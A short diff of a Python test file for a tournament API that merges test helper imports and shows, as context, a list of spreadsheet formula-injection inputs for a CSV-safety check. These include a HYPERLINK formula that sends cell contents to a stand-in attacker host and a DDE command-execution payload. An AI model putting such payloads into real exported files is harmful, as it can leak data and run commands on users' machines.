@@ -9,8 +9,7 @@ import pytest
 
 from api.tournament_logic import exchange
 from rules_engine import csv_safety
-from tests.api.test_tournaments import bearer, make_director
-from tests.conftest import start_table
+from tests.conftest import bearer, make_director, start_table
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Anna")', "+1+1", "@SUM(1)", "-2+3",
             "=cmd|' /C calc'!A0", "\t=1", "\r=1"]
